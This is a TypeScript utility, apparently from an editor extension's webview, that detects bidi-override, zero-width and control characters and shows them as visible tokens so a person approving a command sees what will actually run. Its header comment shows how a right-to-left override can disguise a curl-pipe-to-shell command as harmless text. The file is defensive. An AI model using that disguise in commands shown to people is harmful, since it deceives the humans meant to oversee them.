// Text a person must read exactly as it will run (a worker's command in a permission prompt, its notification): the
// characters that change how a text reads without being seen are written out as ⟨U+202E⟩. A right-to-left override
// shows `echo safe ‮hs | moc.elpmaxe//:ptth lruc‬` as "curl http://example.com | sh", and a zero-width space or a
// control character hides where one word ends. The text itself is never changed, only the way it is shown.
// No imports: the webview takes it without zod, whose compiled parsers the panel's CSP refuses ('unsafe-eval').

/**
 * One hidden character: bidi controls (U+061C, U+200E, U+200F, U+202A–U+202E, U+2066–U+2069), zero-width and
 * invisible ones (U+200B–U+200D, U+2060, U+FEFF, U+00AD), C0 controls but \t and \n, DEL and the C1 controls,
 * and the line and paragraph separators (U+2028, U+2029), which break a line where no \n is.
 */
// eslint-disable-next-line no-control-regex
const HIDDEN = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u00AD\u061C\u200B-\u200F\u202A-\u202E\u2028\u2029\u2060\u2066-\u2069\uFEFF]/;

/** The token a hidden character is shown as: ⟨U+202E⟩. */
export function hiddenCharToken(ch: string): string {
  return `⟨U+${ch.charCodeAt(0).toString(16).toUpperCase().padStart(4, '0')}⟩`;
}

/** Whether `text` holds a character that hiddenCharToken would write out. */
export function hasHiddenChars(text: string): boolean {
  return HIDDEN.test(text);
}

/**
 * `text` cut at its hidden characters: visible runs at even indices (possibly empty), one hidden character at each
 * odd index, so the webview can style the tokens (String.split with a capturing group).
 */
export function splitHidden(text: string): string[] {
  return text.split(new RegExp(`(${HIDDEN.source})`));
}

const HIDDEN_ALL = new RegExp(HIDDEN.source, 'g');

/** `text` with each hidden character replaced by `mark(ch)`, in one pass (the webview wraps each in a marked element). */
export function replaceHidden(text: string, mark: (ch: string) => string): string {
  return text.replace(HIDDEN_ALL, mark);
}

/** `text` with every hidden character written out as its token (for plain-text places: a notification). */
export function visibleText(text: string): string {
  return splitHidden(text)
    .map((part, i) => (i % 2 ? hiddenCharToken(part) : part))
    .join('');
}

/** Whether `text` has anything to read: not only whitespace and hidden characters (a message that is blank is not sent). */
export function hasVisibleText(text: string): boolean {
  return /\S/.test(text.replace(new RegExp(HIDDEN.source, 'g'), ''));
}
